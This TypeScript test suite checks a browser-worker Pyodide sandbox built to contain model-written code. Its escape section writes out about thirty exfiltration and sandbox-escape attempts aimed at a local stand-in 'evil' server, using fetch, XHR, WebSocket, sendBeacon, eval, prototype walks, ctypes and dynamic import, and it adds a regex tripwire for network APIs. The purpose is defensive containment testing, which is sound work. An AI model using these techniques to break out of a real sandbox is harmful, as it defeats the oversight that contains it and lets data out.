// The browser-worker level in real Chromium: the test page (built with Vite, served from 127.0.0.1)
// creates sandboxes whose Pyodide runs in a dedicated worker. Every way out of the worker is tried from
// model code; each must fail, be recorded, and a real local "exfiltration" server must receive nothing.
// One page is cross-origin isolated (COOP/COEP: KeyboardInterrupt through a SharedArrayBuffer), the
// other is not (a runaway cell costs a fresh worker).
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { sandboxWorkerCsp } from '../src/sandbox/browser/index.js';
import type { CellResult } from '../src/sandbox/types.js';
import {
  buildTestPage,
  launchChromium,
  PageDriver,
  serveTestPage,
  type StaticServer,
} from './browser/harness.js';
import { generateDataset } from '@localds/benchmarks';
import { DATA_KEY, DATA_PREFIX, DATA_SEED, type CreateResult } from './browser/page-api.js';
import {
  countingServer,
  errors,
  liveProject,
  type LiveProject,
  resultText,
  streamText,
  type CountingServer,
  writeProbeIndex,
} from './sandbox-helpers.js';

const BLOCKED = 'not available in the localds sandbox';

let browser: Browser;
let plain: PageDriver;
let isolated: PageDriver;
let withCsp: PageDriver;
let evil: CountingServer;
const servers: StaticServer[] = [];
let cleanupBuild: () => void = () => undefined;
const boots: Record<string, CreateResult> = {};
const indexDir = mkdtempSync(join(tmpdir(), 'localds-browser-index-'));

function booted(result: CreateResult): Extract<CreateResult, { bootMs: number }> {
  if ('error' in result) throw new Error(result.error);
  return result;
}

function refusedApis(result: CellResult): string[] {
  return result.requests.filter((r) => !r.allowed).map((r) => r.method);
}

beforeAll(async () => {
  evil = await countingServer();
  const page = await buildTestPage();
  cleanupBuild = page.cleanup;
  writeProbeIndex(indexDir);
  servers.push(
    await serveTestPage(page.outDir, false, { index: indexDir }),
    await serveTestPage(page.outDir, true),
    await serveTestPage(page.outDir, false, {}, (origin) =>
      sandboxWorkerCsp({ pyodideIndexUrl: `${origin}/pyodide/`, packageIndexUrl: origin }),
    ),
  );
  browser = await launchChromium();
  plain = await PageDriver.open(browser, servers[0]!.origin);
  isolated = await PageDriver.open(browser, servers[1]!.origin);
  withCsp = await PageDriver.open(browser, servers[2]!.origin);
  // Cold start first, alone; the rest boot together.
  boots.main = await plain.create('main', { maxOutputBytes: 64 * 1024 });
  [boots.js, boots.iso] = await Promise.all([
    plain.create('js', { codeGeneration: 'allowed' }),
    // A generous grace: on a loaded 2-core machine Chromium may take seconds to schedule the worker.
    isolated.create('iso', { interruptGraceMs: 10_000 }),
  ]);
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await Promise.all(servers.map((s) => s.close()));
  await evil?.close();
  cleanupBuild();
  rmSync(indexDir, { recursive: true, force: true });
});

describe('browser-worker sandbox: start', () => {
  it('boots in stages (runtime, filesystem, packages, guards, kernel) and knows how it can interrupt', () => {
    const main = booted(boots.main!);
    expect(main.stages).toEqual(['runtime', 'filesystem', 'packages', 'guards', 'kernel']);
    expect(main.interruptMode).toBe('terminate');
    expect(booted(boots.iso!).interruptMode).toBe('interrupt-buffer');
    console.log(
      `browser worker cold start ${main.bootMs} ms; warm starts ${booted(boots.js!).bootMs} ms, ${booted(boots.iso!).bootMs} ms (parallel)`,
    );
  });

  it('fails to start with a clear error naming a package the index cannot serve', async () => {
    const origin = servers[0]!.origin;
    const result = await plain.create('nopkg', {
      packages: ['numpy'],
      packageIndexUrl: `${origin}/no-packages/`,
      lockFileUrl: `${origin}/pyodide/pyodide-lock.json`,
    });
    expect(result).toEqual({
      error: expect.stringMatching(/could not load Pyodide packages numpy/),
    });
    await plain.dispose('nopkg');
  }, 60_000);

  it('loads packages from a self-hosted index before model code, which cannot reach the index itself', async () => {
    const origin = servers[0]!.origin;
    booted(
      await plain.create('pkg', {
        packages: ['localds-probe'],
        packageIndexUrl: `${origin}/index/`,
      }),
    );
    expect(resultText(await plain.run('pkg', 'import localds_probe\nlocalds_probe.ANSWER'))).toBe(
      '42',
    );
    const index = await plain.run(
      'pkg',
      `from pyodide.http import pyfetch\nr = await pyfetch("${origin}/index/pyodide-lock.json")\nr.status`,
    );
    expect(resultText(index)).toBe('403');
    expect(index.requests).toEqual([
      expect.objectContaining({
        allowed: false,
        status: 403,
        blocked: `request to ${new URL(origin).host} blocked: this sandbox only answers the run's data URL, https://data.localds.test/rest/v1/; every other host is unreachable from model code`,
      }),
    ]);
    await plain.dispose('pkg');
  }, 60_000);
});

describe('browser-worker sandbox: cells', () => {
  it('returns execute_result, keeps state between cells, and reports errors with a traceback', async () => {
    expect(resultText(await plain.run('main', 'x = 41\nx + 1'))).toBe('42');
    expect(resultText(await plain.run('main', 'x * 2'))).toBe('82');
    const failed = await plain.run('main', 'def f():\n    return 1 / 0\nf()');
    expect(failed.status).toBe('error');
    const [error] = errors(failed);
    expect(error?.ename).toBe('ZeroDivisionError');
    expect(error?.traceback.join('\n')).toMatch(/<cell-\d+>.*line 3[\s\S]*line 2, in f/);
  });

  it('answers pyfetch of the data URL from the data endpoint in the worker and records it without the key', async () => {
    const result = await plain.run(
      'main',
      'from pyodide.http import pyfetch\n' +
        `r = await pyfetch("${DATA_PREFIX}posthog_events?select=id,variant&limit=3&apikey=${DATA_KEY}")\n` +
        'body = await r.json()\n(r.status, len(body), sorted(body[0]))',
    );
    expect(resultText(result)).toBe("(200, 3, ['id', 'variant'])");
    expect(result.requests).toEqual([
      expect.objectContaining({
        method: 'GET',
        url: `${DATA_PREFIX}posthog_events?select=id%2Cvariant&limit=3`,
        status: 200,
        allowed: true,
        rowsReturned: 3,
      }),
    ]);
    expect(JSON.stringify(result.requests)).not.toContain(DATA_KEY);
  });

  it('answers a synchronous XMLHttpRequest the way urllib3 (and so requests) sends one without JSPI', async () => {
    // The calls of urllib3.contrib.emscripten.fetch.send_request in a worker, in order.
    const result = await plain.run(
      'main',
      'import js, json\nfrom email.parser import Parser\n' +
        'x = js.XMLHttpRequest.new()\nx.responseType = "arraybuffer"\nx.timeout = 5000\n' +
        `x.open("GET", "${DATA_PREFIX}posthog_events?select=id&order=id.asc", False)\n` +
        `x.setRequestHeader("apikey", "${DATA_KEY}")\nx.setRequestHeader("Prefer", "count=exact")\n` +
        'x.send(None)\n' +
        'headers = dict(Parser().parsestr(x.getAllResponseHeaders()))\n' +
        'rows = json.loads(x.response.to_py().tobytes())\n' +
        '(x.status, len(rows), headers["content-range"])',
    );
    expect(errors(result)).toEqual([]);
    expect(resultText(result)).toBe("(200, 844, '0-843/844')");
    expect(result.requests).toEqual([
      expect.objectContaining({ method: 'GET', status: 200, allowed: true, rowsReturned: 844 }),
    ]);
  });

  it('answers urllib3’s JSPI path (run_sync over fetch, with an abort signal) where the browser has JSPI', async () => {
    // urllib3.contrib.emscripten.fetch.send_jspi_request, reduced: this Chromium has JSPI, so this is
    // the path `requests` takes here; the synchronous XHR above is the one it takes without JSPI.
    const result = await plain.run(
      'main',
      'import js\nfrom pyodide.ffi import can_run_sync, run_sync, to_js\n' +
        'ctl = js.AbortController.new()\n' +
        `init = to_js({"method": "GET", "headers": {"apikey": "${DATA_KEY}"}, "signal": ctl.signal}, dict_converter=js.Object.fromEntries)\n` +
        `r = run_sync(js.fetch("${DATA_PREFIX}posthog_events?select=id&limit=4", init))\n` +
        'body = run_sync(r.arrayBuffer()).to_py().tobytes()\n' +
        '(can_run_sync(), r.status, body.count(b\'"id"\'))',
    );
    expect(errors(result)).toEqual([]);
    expect(resultText(result)).toBe('(True, 200, 4)');
    expect(result.requests).toEqual([expect.objectContaining({ status: 200, rowsReturned: 4 })]);
  });

  it('records what the main thread answered, so model code tampering with the worker cannot forge it', async () => {
    booted(await plain.create('forge', {}));
    // JSON.parse is what a record's row count would be read with, were it taken in the worker.
    const result = await plain.run(
      'forge',
      'import js\nfrom pyodide.ffi import create_proxy\nfrom pyodide.http import pyxhr\n' +
        'real = js.JSON.parse\n' +
        'js.JSON.parse = create_proxy(lambda *args: js.Array.new(5000))\n' +
        `r = pyxhr.get("${DATA_PREFIX}posthog_events?select=id&limit=3", headers={"apikey": "${DATA_KEY}"})\n` +
        'js.JSON.parse = real\nr.status_code',
    );
    expect(resultText(result)).toBe('200');
    expect(result.requests).toEqual([expect.objectContaining({ status: 200, rowsReturned: 3 })]);
    await plain.dispose('forge');
  });

  it('serves pyodide.http.pyxhr (a synchronous client) and answers a wrong key with PostgREST’s 401', async () => {
    const result = await plain.run(
      'main',
      'from pyodide.http import pyxhr\n' +
        `ok = pyxhr.get("${DATA_PREFIX}posthog_events?select=id&limit=2", headers={"apikey": "${DATA_KEY}"})\n` +
        `bad = pyxhr.get("${DATA_PREFIX}posthog_events?select=id", headers={"apikey": "wrong"})\n` +
        '(ok.status_code, len(ok.json()), bad.status_code)',
    );
    expect(resultText(result)).toBe('(200, 2, 401)');
    expect(result.requests.map((r) => r.status)).toEqual([200, 401]);
  });

  it('lists and reads the files a cell writes in its working directory', async () => {
    const result = await plain.run(
      'main',
      'import os\nos.makedirs("out", exist_ok=True)\n' +
        'open("out/summary.json", "w").write(\'{"n": 1}\')\nos.getcwd()',
    );
    expect(resultText(result)).toBe("'/work'");
    expect(result.filesWritten).toEqual([{ name: 'out/summary.json', size: 8 }]);
    expect((await plain.listFiles('main')).map((f) => f.name)).toEqual(['out/summary.json']);
    expect(await plain.readText('main', 'out/summary.json')).toBe('{"n": 1}');
  });

  it('gives model code the files the harness writes, and keeps them across a restart that clears state', async () => {
    await plain.writeText('main', 'input/given.txt', 'from harness');
    expect(
      resultText(await plain.run('main', 'given = open("input/given.txt").read()\ngiven')),
    ).toBe("'from harness'");
    await plain.restart('main');
    const after = await plain.run('main', 'print(open("input/given.txt").read())\ngiven');
    expect(streamText(after)).toBe('from harness\n');
    expect(errors(after)[0]?.ename).toBe('NameError');
    await expect(plain.writeText('main', '../escape.txt', 'x')).rejects.toThrow(
      /invalid file name/,
    );
  }, 60_000);

  it('truncates a flood of output at the limit with a marker', async () => {
    const result = await plain.run('main', 'print("y" * 3_000_000)');
    const text = streamText(result);
    expect(text.startsWith('y'.repeat(64 * 1024))).toBe(true);
    expect(text).toContain(`[truncated ${3_000_001 - 64 * 1024} bytes]`);
    expect(text.length).toBeLessThan(64 * 1024 + 100);
  });
});

describe('browser-worker sandbox: started before its run, its data connected later', () => {
  const fetchData =
    'from pyodide.http import pyfetch\n' +
    `r = await pyfetch("${DATA_PREFIX}posthog_events?select=id&limit=2&apikey=${DATA_KEY}")\n` +
    'r.status';

  it('refuses every request until connectData: a cell in a sandbox never connected cannot fetch the data URL', async () => {
    booted(await plain.create('unconnected', { withoutData: true }));
    const result = await plain.run('unconnected', fetchData);
    expect(resultText(result)).toBe('403');
    expect(result.requests).toEqual([
      expect.objectContaining({
        url: expect.stringContaining(DATA_PREFIX),
        status: 403,
        allowed: false,
      }),
    ]);
    // Once model code ran, neither side connects it any more (the worker's realm may be tampered with).
    await expect(plain.connectData('unconnected')).resolves.toEqual({
      error: 'a network is connected before the first cell, not after',
    });
    await expect(plain.connectWorkerData('unconnected')).resolves.toEqual({
      error: expect.stringContaining('the data endpoint is connected before model code runs'),
    });
    await plain.dispose('unconnected');
  });

  it('answers the data URL once connected, refuses a second connect on both sides, and keeps the data across a restart', async () => {
    booted(await plain.create('early', { withoutData: true }));
    await expect(plain.connectData('early')).resolves.toEqual({ ok: true });
    await expect(plain.connectData('early')).resolves.toEqual({
      error: 'the sandbox already has its network',
    });
    // The worker's own wall, past the main side's check.
    await expect(plain.connectWorkerData('early')).resolves.toEqual({
      error: expect.stringContaining('the sandbox worker already has its data endpoint'),
    });
    const result = await plain.run('early', fetchData);
    expect(resultText(result)).toBe('200');
    expect(result.requests).toEqual([
      expect.objectContaining({ status: 200, allowed: true, rowsReturned: 2 }),
    ]);
    // A fresh worker (a restart, a runaway cell) boots with the data the run connected.
    await plain.restart('early');
    expect(resultText(await plain.run('early', fetchData))).toBe('200');
    await plain.dispose('early');
  });
});

describe('browser-worker sandbox: escapes (code generation blocked, the default)', () => {
  const evilUrl = () => evil.url;
  const evilHost = () => evil.url.replace('http://', '');
  interface Escape {
    name: string;
    code: () => string;
    /** the repr the cell ends with (a refused request answers 403), else the cell must raise */
    result?: string;
    /** text the error (or stdout) must contain */
    says?: string;
    /** the method or API name the refusal is recorded under */
    recorded: string;
    /** a cell that leaves the interpreter unusable ends by the watchdog instead of raising */
    endsBy?: { status: 'timeout'; timeoutMs: number };
  }
  const obj = 'dict_converter=js.Object.fromEntries';
  const escapes: Escape[] = [
    {
      name: 'js.fetch',
      code: () => `import js\nr = await js.fetch("${evilUrl()}/js-fetch")\nr.status`,
      result: '403',
      recorded: 'GET',
    },
    {
      name: 'pyfetch POST with a body',
      code: () =>
        `from pyodide.http import pyfetch\nr = await pyfetch("${evilUrl()}/pyfetch", method="POST", body="secret")\nr.status`,
      result: '403',
      recorded: 'POST',
    },
    {
      name: 'js.fetch of a js.Request',
      code: () =>
        `import js\nfrom pyodide.ffi import to_js\n` +
        `req = js.Request.new("${evilUrl()}/request", to_js({"method": "PUT", "keepalive": True}, ${obj}))\n` +
        `r = await js.fetch(req)\nr.status`,
      result: '403',
      recorded: 'PUT',
    },
    {
      name: 'asynchronous js.XMLHttpRequest',
      code: () =>
        'import js, asyncio\nfrom pyodide.ffi import create_proxy\n' +
        'x = js.XMLHttpRequest.new()\n' +
        `x.open("GET", "${evilUrl()}/xhr")\n` +
        'done = asyncio.get_event_loop().create_future()\n' +
        'x.onloadend = create_proxy(lambda e: done.set_result(x.status))\n' +
        'x.send()\nawait done',
      result: '403',
      recorded: 'GET',
    },
    {
      name: 'synchronous js.XMLHttpRequest',
      code: () =>
        `import js\nx = js.XMLHttpRequest.new()\nx.open("POST", "${evilUrl()}/sync-xhr", False)\n` +
        'x.send("secret")\nx.status',
      result: '403',
      recorded: 'POST',
    },
    {
      name: 'pyodide.http.pyxhr (synchronous XHR client)',
      code: () => `from pyodide.http import pyxhr\npyxhr.get("${evilUrl()}/pyxhr").status_code`,
      result: '403',
      recorded: 'GET',
    },
    ...(
      [
        ['WebSocket', () => `js.WebSocket.new("ws://${evilHost()}/ws")`],
        ['WebSocketStream', () => `js.WebSocketStream.new("ws://${evilHost()}/wss")`],
        ['WebTransport', () => `js.WebTransport.new("https://${evilHost()}/wt")`],
        ['EventSource', () => `js.EventSource.new("${evilUrl()}/sse")`],
        ['importScripts', () => `js.importScripts("${evilUrl()}/script.js")`],
        ['Worker', () => `js.Worker.new("${evilUrl()}/worker.js")`],
        ['SharedWorker', () => `js.SharedWorker.new("${evilUrl()}/shared.js")`],
        ['navigator.sendBeacon', () => `js.navigator.sendBeacon("${evilUrl()}/beacon", "secret")`],
        ['indexedDB', () => 'js.indexedDB.open("exfil")'],
        ['caches', () => 'js.caches.open("exfil")'],
        ['BroadcastChannel', () => 'js.BroadcastChannel.new("exfil")'],
        ['navigator.storage', () => 'js.navigator.storage.getDirectory()'],
        ['RTCPeerConnection', () => 'js.RTCPeerConnection.new()'],
        ['FontFace', () => `js.FontFace.new("x", "url(${evilUrl()}/font.woff)")`],
        ['close', () => 'js.close()'],
        ['eval', () => `js.eval("fetch('${evilUrl()}/eval')")`],
        ['Function', () => 'js.Function("return fetch")'],
        [
          'Function.prototype.constructor',
          () => 'js.Object.getPrototypeOf(js.Math.max).constructor("return fetch")',
        ],
        [
          'AsyncFunction.prototype.constructor',
          () => 'js.Object.getPrototypeOf(js.fetch).constructor("return fetch")',
        ],
        ['setTimeout(string)', () => `js.setTimeout("fetch('${evilUrl()}/timer')", 0)`],
        [
          'postMessage',
          () =>
            'from pyodide.ffi import to_js\n' +
            `js.postMessage(to_js({"id": "forged", "type": "RAW", "value": {}}, ${obj}))`,
        ],
      ] as const
    ).map(([api, call]) => ({
      name: `js.${api}`,
      code: () => `import js\n${call()}`,
      recorded: api,
    })),
    {
      name: 'run_js',
      code: () => `from pyodide.code import run_js\nrun_js("self.fetch = null")`,
      recorded: 'eval',
    },
    {
      name: 'postMessage found by walking the global scope’s prototypes',
      code: () =>
        'import js\nproto = js.self\n' +
        'while proto is not None and not js.Object.prototype.hasOwnProperty.call(proto, "postMessage"):\n' +
        '    proto = js.Object.getPrototypeOf(proto)\n' +
        'js.Reflect.apply((proto or js.self).postMessage, js.self, ["forged"])',
      recorded: 'postMessage',
    },
    {
      name: 'navigator.storage getter taken from the prototype',
      code: () =>
        'import js\nd = js.Object.getOwnPropertyDescriptor(js.Object.getPrototypeOf(js.navigator), "storage")\n' +
        'd.get.call(js.navigator)',
      recorded: 'navigator.storage',
    },
    {
      name: 'pyodide_js.loadPackage of a wheel URL',
      code: () =>
        `import pyodide_js\nawait pyodide_js.loadPackage("${evilUrl()}/evil-1.0-py3-none-any.whl")`,
      says: 'closed once model code runs',
      recorded: 'pyodide.loadPackage',
    },
    {
      name: 'restoring fetch with defineProperty, Reflect, delete and assignment',
      code: () =>
        `import js\nfrom pyodide.ffi import to_js\nd = to_js({"value": js.Math.max, "writable": True}, ${obj})\n` +
        'try:\n    js.Object.defineProperty(js.self, "fetch", d)\nexcept Exception as e:\n    print("defineProperty:", e)\n' +
        'print("Reflect.defineProperty:", js.Reflect.defineProperty(js.self, "fetch", d))\n' +
        'print("Reflect.deleteProperty:", js.Reflect.deleteProperty(js.self, "fetch"))\n' +
        'try:\n    js.self.fetch = js.Math.max\nexcept Exception as e:\n    print("assignment:", type(e).__name__)\n' +
        `r = await js.fetch("${evilUrl()}/after-restore")\nr.status`,
      result: '403',
      says: 'Cannot redefine property: fetch',
      recorded: 'GET',
    },
    {
      // emscripten_run_script evals a C string; the refusal is a JS throw inside a wasm call, which
      // Pyodide treats as fatal, so the cell ends by the watchdog and a fresh worker.
      name: 'ctypes calling emscripten_run_script',
      code: () =>
        `import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch('${evilUrl()}/ctypes')")`,
      recorded: 'eval',
      endsBy: { status: 'timeout', timeoutMs: 3000 },
    },
  ];

  for (const escape of escapes) {
    it(`refuses ${escape.name} and records it`, async () => {
      const result = await plain.run('main', escape.code(), escape.endsBy?.timeoutMs);
      if (escape.endsBy) {
        expect(result.status).toBe(escape.endsBy.status);
        expect(result.stateLost).toBe(true);
      } else if (escape.result !== undefined) {
        expect(resultText(result)).toBe(escape.result);
        if (escape.says) expect(streamText(result)).toContain(escape.says);
      } else {
        expect(result.status).toBe('error');
        expect(errors(result)[0]?.evalue).toContain(escape.says ?? BLOCKED);
      }
      expect(refusedApis(result)).toContain(escape.recorded);
    });
  }

  it('leaves no unreviewed network, storage or context API on the worker scope (a tripwire for new ones)', async () => {
    // Every global whose name suggests a way out is classified in the worker: guarded (our stand-in),
    // an interface Chromium will not construct (its instances come only from a guarded entry point),
    // or something that needs a human's review.
    const result = await plain.run(
      'main',
      String.raw`import js, re, json
from pyodide.ffi import jsnull
names = set()
p = js.self
while p is not None and p is not jsnull:
    names |= set(js.Object.getOwnPropertyNames(p))
    p = js.Object.getPrototypeOf(p)
suspect = re.compile(r'^(RTC|webkitRTC|IDB|USB|HID|Serial|WebSocket|WebTransport|XMLHttp|EventSource|Worker|SharedWorker|BroadcastChannel|MessageChannel|FileSystem|Storage|Cache|Font|Notification|ShadowRealm|Push|Sync|PeriodicSync|BackgroundFetch|Lock|fetch|importScripts|indexedDB|caches|cookieStore|fonts|webkit)|Socket|Transport')
kinds = {}
# Events and errors carry data; they cannot open anything.
for name in sorted(n for n in names if suspect.search(n) and not re.search(r'(Event|Error)$', n)):
    try:
        value = getattr(js, name)
    except Exception as e:
        kinds[name] = 'guarded' if '${BLOCKED}' in str(e) else 'error: ' + str(e)[:80]
        continue
    if getattr(value, 'typeof', None) != 'function':
        kinds[name] = 'value'
        continue
    try:
        value.new()
        kinds[name] = 'constructible'
    except Exception as e:
        text = str(e)
        kinds[name] = 'guarded' if '${BLOCKED}' in text else 'illegal-constructor' if 'Illegal constructor' in text else 'constructible'
print(json.dumps(kinds))`,
    );
    expect(errors(result)).toEqual([]);
    const kinds = JSON.parse(streamText(result)) as Record<string, string>;
    // Reviewed by hand: constructible, but nothing they do leaves the worker.
    const reviewed: Record<string, string> = {
      fetch: 'answered by the data endpoint in the worker and its allow-list (tested above)',
      XMLHttpRequest:
        'answered by the data endpoint in the worker and its allow-list (tested above)',
      MessageChannel: 'a port reaches another context only through postMessage, which is removed',
      FileSystemObserver:
        'watches file handles, which only the removed navigator.storage hands out',
      RTCEncodedAudioFrame: 'frame data for encoded transforms; no connection of its own',
      RTCEncodedVideoFrame: 'frame data for encoded transforms; no connection of its own',
    };
    // USB descriptor objects are built from a USBDevice, which only the removed navigator.usb hands out.
    const isUsbData = (name: string) => /^USB.+/.test(name);
    const unreviewed = Object.entries(kinds).filter(
      ([name, kind]) =>
        kind !== 'guarded' &&
        kind !== 'illegal-constructor' &&
        !(name in reviewed) &&
        !isUsbData(name),
    );
    expect(unreviewed).toEqual([]);
    expect(kinds.fetch).toBeDefined();
    expect(kinds.WebSocket).toBe('guarded');
  }, 60_000);

  it('leaves no path from js or pyodide_js to any original it replaced', async () => {
    const report = await plain.audit('main');
    expect(report.visited).toBeGreaterThan(10_000);
    expect(report.leaks).toEqual([]);
  }, 60_000);

  it('let nothing reach the exfiltration server', async () => {
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(evil.hits()).toBe(0);
  });
});

describe('browser-worker sandbox: the locks hold even when model code runs arbitrary JS', () => {
  const js = (code: string) =>
    plain.run('js', `from pyodide.code import run_js\nrun_js(${JSON.stringify(code)})`);

  it('cannot reassign, redefine or delete a guarded global', async () => {
    const strictAssign = await js(
      "'use strict'; try { self.fetch = function () {}; 'assigned' } catch (e) { e.name }",
    );
    expect(resultText(strictAssign)).toBe("'TypeError'");
    const redefine = await js(
      "try { Object.defineProperty(self, 'fetch', { value: () => 1 }); 'redefined' } catch (e) { e.name }",
    );
    expect(resultText(redefine)).toBe("'TypeError'");
    const deleted = await js(
      "[delete self.fetch, delete self.XMLHttpRequest, Reflect.deleteProperty(self, 'WebSocket'), Reflect.deleteProperty(self, 'importScripts')].join()",
    );
    expect(resultText(deleted)).toBe("'false,false,false,false'");
  });

  it('finds only guarded versions through fresh function realms, Reflect and prototype walks', async () => {
    const realm = await js(
      "[new Function('return this')().fetch === fetch, (0, eval)('this').WebSocket === WebSocket, Reflect.get(globalThis, 'importScripts') === importScripts].join()",
    );
    expect(resultText(realm)).toBe("'true,true,true'");
    const walk = await plain.run(
      'js',
      'from pyodide.code import run_js\n' +
        `statuses = await run_js("""(async () => { const out = []; for (let p = self; p; p = Object.getPrototypeOf(p)) { const d = Object.getOwnPropertyDescriptor(p, 'fetch'); if (d) out.push((await d.value('${evil.url}/walk')).status); } return out.join(); })()""")\n` +
        'statuses',
    );
    expect(resultText(walk)).toMatch(/^'403(,403)*'$/);
    expect(refusedApis(walk)).toContain('GET');
    const socket = await js(
      `try { new WebSocket('ws://${evil.url.slice(7)}/js'); 'opened' } catch (e) { e.message }`,
    );
    expect(resultText(socket)).toContain(BLOCKED);
    expect(refusedApis(socket)).toContain('WebSocket');
  });

  it('still leaves no path to an original, and nothing reached the exfiltration server', async () => {
    expect((await plain.audit('js')).leaks).toEqual([]);
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(evil.hits()).toBe(0);
  }, 60_000);
});

describe('browser-worker sandbox: the worker CSP as a third wall', () => {
  it('refuses a dynamic import() (syntax no guard can replace) when code generation is allowed', async () => {
    booted(await withCsp.create('csp', { codeGeneration: 'allowed' }));
    const result = await withCsp.run(
      'csp',
      'from pyodide.code import run_js\n' +
        `await run_js("import('${evil.url}/module.js').then(() => 'imported', (e) => e.name)")`,
    );
    expect(resultText(result)).toBe("'TypeError'");
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(evil.hits()).toBe(0);
    await withCsp.dispose('csp');
  }, 60_000);
});

describe('browser-worker sandbox: runaway cells', () => {
  it('without cross-origin isolation: terminates, restarts a clean worker and keeps earlier files', async () => {
    await plain.run('main', 'open("kept.txt", "w").write("kept")\nbefore = 1');
    const result = await plain.run('main', 'while True:\n    pass', 1500);
    expect(result.status).toBe('timeout');
    expect(result.stateLost).toBe(true);
    expect(errors(result)[0]?.evalue).toMatch(/ran longer than 1500 ms.*state was lost/);
    const after = await plain.run('main', 'print(open("kept.txt").read())\nbefore');
    expect(streamText(after)).toBe('kept\n');
    expect(errors(after)[0]?.ename).toBe('NameError');
  }, 60_000);

  it('cross-origin isolated: interrupts with KeyboardInterrupt and keeps the state', async () => {
    await isolated.run('iso', 'kept = 7');
    const result = await isolated.run('iso', 'while True:\n    pass', 1500);
    expect(result.status).toBe('interrupted');
    expect(result.stateLost).toBe(false);
    expect(errors(result).map((e) => e.ename)).toEqual(['KeyboardInterrupt', 'KeyboardInterrupt']);
    expect(resultText(await isolated.run('iso', 'kept'))).toBe('7');
  }, 60_000);

  it('cross-origin isolated: a cell waiting outside Python falls back to a fresh worker', async () => {
    const result = await isolated.run('iso', 'import asyncio\nawait asyncio.Future()', 1000);
    expect(result.status).toBe('timeout');
    expect(result.stateLost).toBe(true);
    expect(errors(await isolated.run('iso', 'kept'))[0]?.ename).toBe('NameError');
  }, 60_000);

  it('restarts after a cell reaches the wasm memory ceiling', async () => {
    booted(await plain.create('mem', { memoryLimitMB: 256 }));
    const result = await plain.run('mem', 'hog = bytearray(300 * 1024 * 1024)');
    expect(result.stateLost).toBe(true);
    expect(errors(result).map((e) => e.ename)).toEqual(['MemoryError', 'KernelRestarted']);
    expect(resultText(await plain.run('mem', '1 + 1'))).toBe('2');
    await plain.dispose('mem');
  }, 90_000);
});

describe('browser-worker sandbox: live Supabase mode', () => {
  const LIVE_KEY = 'live-project-key';
  const DROPPED = 3;
  let project: LiveProject;

  beforeAll(async () => {
    project = await liveProject(generateDataset('canonical', DATA_SEED), LIVE_KEY);
    booted(
      await plain.create('live', {
        live: { project: project.origin, liveKey: LIVE_KEY, dropRows: DROPPED },
      }),
    );
  }, 60_000);

  afterAll(async () => {
    await plain?.dispose('live').catch(() => undefined);
    await project?.close();
  });

  it('forwards fetch and synchronous XHR to the live project with its key, and records drift from the snapshot', async () => {
    const table = `${project.origin}/rest/v1/posthog_events`;
    const result = await plain.run(
      'live',
      'import js, json\nfrom pyodide.http import pyfetch\n' +
        `h = {"apikey": "${DATA_KEY}", "Authorization": "Bearer ${DATA_KEY}"}\n` +
        `a = await pyfetch("${table}?select=id&order=id.asc", headers=h)\n` +
        `b = await pyfetch("${table}?select=id&order=id.asc&limit=5", headers=h)\n` +
        'x = js.XMLHttpRequest.new()\nx.responseType = "arraybuffer"\n' +
        `x.open("GET", "${table}?select=id", False)\nx.setRequestHeader("apikey", "${DATA_KEY}")\n` +
        'x.setRequestHeader("Prefer", "count=exact")\nx.send(None)\n' +
        `bad = await pyfetch("${table}?select=id", headers={"apikey": "not-the-key"})\n` +
        '(a.status, len(await a.json()), b.status, x.status, len(json.loads(x.response.to_py().tobytes())), bad.status)',
    );
    expect(errors(result)).toEqual([]);
    const live = generateDataset('canonical', DATA_SEED).length;
    expect(resultText(result)).toBe(`(200, ${live}, 200, 200, ${live}, 401)`);
    expect(result.requests.map((r) => [r.status, r.drift])).toEqual([
      [200, `${live} rows live, ${live - DROPPED} from the snapshot`],
      [200, null],
      [200, `the table holds ${live} rows live, ${live - DROPPED} in the snapshot`],
      // a wrong key is answered by the snapshot and never forwarded
      [401, undefined],
    ]);
    // The project saw its own key on every request, never the run's, and the wrong key never arrived.
    // Each read reached it twice: the worker's answer to model code, and the main thread's own fetch
    // that the record (and its drift) comes from.
    expect(project.keysSeen()).toEqual(Array.from({ length: 6 }, () => LIVE_KEY));
    expect(JSON.stringify(result)).not.toContain(LIVE_KEY);
  });

  it('reports an unreachable project as a 502 for that request, without its key', async () => {
    const origin = project.origin;
    await project.close();
    const result = await plain.run(
      'live',
      'from pyodide.http import pyfetch\n' +
        `r = await pyfetch("${origin}/rest/v1/posthog_events?select=id&apikey=${DATA_KEY}")\n` +
        'r.status',
    );
    expect(resultText(result)).toBe('502');
    expect(result.requests).toEqual([
      expect.objectContaining({ status: 502, error: expect.any(String) as string }),
    ]);
    expect(JSON.stringify(result)).not.toContain(LIVE_KEY);
  });
});
